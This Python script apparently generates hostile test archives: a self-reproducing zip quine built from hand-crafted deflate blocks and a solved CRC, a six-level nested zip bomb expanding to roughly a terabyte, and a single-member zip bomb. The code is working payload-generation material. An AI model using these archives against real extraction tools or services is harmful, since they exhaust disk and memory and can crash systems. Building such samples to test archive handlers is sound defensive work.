"""Writes hostile/: a zip that contains itself, a bomb of nested zips, a bomb of one member.

The zip that contains itself is a deflate program of stored blocks (`L n`: the next n bytes as they are, 5 bytes long)
and matches (`R n`: the last n bytes once more, padded to 10 bytes with empty blocks) that prints its own text; the
CRC-32 in it is found by solving the 32 linear equations that it must satisfy.

Run with Python 3.11 or later: python make_hostile_archives.py
"""

import io
import pathlib
import struct
import zipfile
import zlib

FOLDER = pathlib.Path(__file__).parent / "hostile"
NAME = b"inside.zip"


class Bits:
    """A deflate bit stream."""

    def __init__(self):
        self.bits = []

    def number(self, value, width):
        self.bits += [value >> i & 1 for i in range(width)]

    def code(self, value, width):
        self.bits += [value >> i & 1 for i in reversed(range(width))]

    def match(self, length, distance):
        base, extra, symbol = 3, 0, 257
        for symbol in range(257, 285):
            extra = max(0, (symbol - 261) // 4)
            if length < base + (1 << extra):
                break
            base += 1 << extra
        if symbol < 280:
            self.code(symbol - 256, 7)
        else:
            self.code(0xC0 + symbol - 280, 8)
        self.number(length - base, extra)
        base, extra, symbol = 1, 0, 0
        for symbol in range(30):
            extra = max(0, symbol // 2 - 1)
            if distance < base + (1 << extra):
                break
            base += 1 << extra
        self.code(symbol, 5)
        self.number(distance - base, extra)

    def block(self, is_last, matches=(), distance=0):
        self.number(int(is_last), 1)
        self.number(1, 2)
        for length in matches:
            self.match(length, distance)
        self.code(0, 7)

    def bytes(self):
        assert len(self.bits) % 8 == 0, len(self.bits)
        return bytes(sum(bit << i for i, bit in enumerate(self.bits[at:at + 8])) for at in range(0, len(self.bits), 8))


def literal(count):
    return struct.pack("<BHH", 0, count, count ^ 0xFFFF)


def repeat(lengths, empty_blocks, is_last=False):
    bits = Bits()
    bits.block(is_last and empty_blocks == 0, lengths, sum(lengths))
    for index in range(empty_blocks):
        bits.block(is_last and index == empty_blocks - 1)
    assert len(bits.bytes()) == 10, len(bits.bytes())
    return bits.bytes()


def quine(crc):
    head_length, tail_length = 30 + len(NAME), 46 + len(NAME) + 22
    around_head, around_tail = head_length + 5, tail_length + 10
    head_repeat = repeat((25, 10, around_head - 35), 2)
    tail_repeat = repeat((69, around_tail - 69), 3, is_last=True)
    six = repeat((8, 8, 7, 7), 1)
    l0, l1, l2, l6 = (literal(5 * n) for n in (0, 1, 2, 6))
    head_literal, tail_literal = literal(around_head), literal(around_tail)

    def program(head, tail):
        return b"".join([
            head_literal, head, head_literal, head_repeat, l2, head_repeat, l1, l2, l0,
            l6, head_repeat, l1, l2, l0, l6, six, l6, six, l6, six, l6, six,
            l6, six, l0, l0, l0, tail_literal, six, l0, l0, l0, tail_literal,
            tail_repeat, tail, tail_repeat])

    packed = len(program(bytes(head_length), bytes(tail_length)))
    whole = head_length + packed + tail_length
    fields = struct.pack("<HHHHIII", 0, 8, 0, 33, crc, packed, whole) + struct.pack("<HH", len(NAME), 0)
    head = b"PK\3\4" + struct.pack("<H", 20) + fields + NAME
    record = b"PK\1\2" + struct.pack("<HH", 20, 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, 0) + NAME
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(record), head_length + packed, 0)
    assert len(head) == head_length and len(record + end) == tail_length
    return head + program(head, record + end) + record + end


def solve_crc():
    """The CRC of the file is affine in the CRC written in it: solve (A + 1) c = b over two elements."""
    base = zlib.crc32(quine(0))
    columns = [zlib.crc32(quine(1 << i)) ^ base ^ 1 << i for i in range(32)]
    rows = [(sum((columns[i] >> r & 1) << i for i in range(32)), base >> r & 1) for r in range(32)]
    pivots = []
    for bit in range(32):
        pivot = next((row for row in rows if row[0] >> bit & 1), None)
        if pivot is None:
            continue
        rows.remove(pivot)
        rows = [(a ^ pivot[0], b ^ pivot[1]) if a >> bit & 1 else (a, b) for a, b in rows]
        pivots = [(k, (a ^ pivot[0], b ^ pivot[1]) if a >> bit & 1 else (a, b)) for k, (a, b) in pivots]
        pivots.append((bit, pivot))
    assert all(b == 0 for _, b in rows), "no solution; change the name"
    return sum(b << k for k, (_, b) in pivots)


def zipped(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def main():
    FOLDER.mkdir(exist_ok=True)
    itself = quine(solve_crc())
    with zipfile.ZipFile(io.BytesIO(itself)) as archive:
        assert archive.read("inside.zip") == itself
    bomb = zipped({"zeros.bin": bytes(4 << 20)})
    one = bomb
    for depth in range(6):
        bomb = zipped({f"{depth}_{i}.zip": bomb for i in range(8)})
    for name, data in {"quine.zip": itself, "nested-bomb.zip": bomb, "zeros.zip": one}.items():
        (FOLDER / name).write_bytes(data)
        print(name, len(data))


main()
